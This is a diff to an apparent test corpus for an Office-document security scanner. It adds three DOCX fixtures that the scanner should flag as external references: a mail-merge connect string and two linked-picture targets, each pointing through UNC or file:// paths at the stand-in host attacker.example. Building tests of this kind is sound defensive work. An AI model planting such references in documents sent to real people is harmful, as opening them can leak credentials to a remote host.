@@ -689,6 +689,27 @@ function hiddenOfficeItems(): CorpusItem[] {
       () => externalTemplateTypedHyperlink('word/prefs.xml'),
       'OOXML_UNREADABLE',
     ),
+    item(
+      'docx-mail-merge-unc-workbook',
+      'OOXML external',
+      () =>
+        office('docx', {
+          'word/settings.xml': `<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/><w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\attacker.example\\share\\x.xlsx"/><w:query w:val="SELECT * FROM \`Sheet1$\`"/></w:mailMerge></w:settings>`,
+        }),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-linked-picture-unc-as-internal-target',
+      'OOXML external',
+      () => office('docx', mainRels('docx', rel('rId9', 'image', '\\\\attacker.example\\share\\logo.png'))),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-linked-picture-file-uri-as-internal-target',
+      'OOXML external',
+      () => office('docx', mainRels('docx', rel('rId9', 'image', 'file://attacker.example/share/logo.png'))),
+      'OOXML_EXTERNAL',
+    ),
     // UTF-16 parts: refused however the byte-order mark arrives.
     item(
       'docx-ddeauto-header-utf16',
